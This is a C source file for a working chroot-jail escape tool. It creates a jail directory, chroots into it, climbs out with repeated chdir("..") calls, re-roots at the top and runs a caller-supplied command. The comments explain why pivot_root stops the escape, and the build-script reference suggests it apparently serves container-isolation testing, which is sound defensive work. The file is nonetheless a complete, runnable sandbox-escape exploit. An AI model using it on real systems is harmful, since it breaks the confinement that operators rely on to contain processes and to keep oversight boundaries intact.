/*
 * chroot-escape: the classic way out of a chroot() jail, then runs COMMAND from wherever it landed.
 *
 * chroot() changes only the root directory, not the working directory. After chroot() into a
 * subdirectory, the working directory lies outside the new root, and the kernel stops ".." only at
 * the root directory itself, so enough chdir("..") calls climb to the top of the mount namespace.
 * Under chroot alone that top is the host's "/". After pivot_root() and a detached old root, the top
 * of the container's mount namespace is the image, so the same climb ends inside the container.
 *
 * Built static by native/build.sh, so it runs in any image and on the host's root alike.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define JAIL "/tmp/.chroot-escape"
#define MAX_CLIMB 256

static int fail(const char *call, const char *argument) {
    fprintf(stderr, "chroot-escape: %s(\"%s\") failed: %s\n", call, argument, strerror(errno));
    return 1;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: chroot-escape COMMAND [ARGUMENT...]\n");
        return 2;
    }
    if (mkdir(JAIL, 0700) != 0 && errno != EEXIST) {
        return fail("mkdir", JAIL);
    }
    if (chdir("/") != 0) {
        return fail("chdir", "/");
    }
    if (chroot(JAIL) != 0) {
        return fail("chroot", JAIL);
    }
    /* The working directory is still "/" of the old root, which is now outside the new root. */
    for (int i = 0; i < MAX_CLIMB; i++) {
        if (chdir("..") != 0) {
            return fail("chdir", "..");
        }
    }
    if (chroot(".") != 0) {
        return fail("chroot", ".");
    }
    printf("chroot-escape: climbed %d levels with chdir(\"..\") and made the top the root; running %s\n",
           MAX_CLIMB, argv[1]);
    fflush(stdout);
    execvp(argv[1], argv + 1);
    return fail("execvp", argv[1]);
}
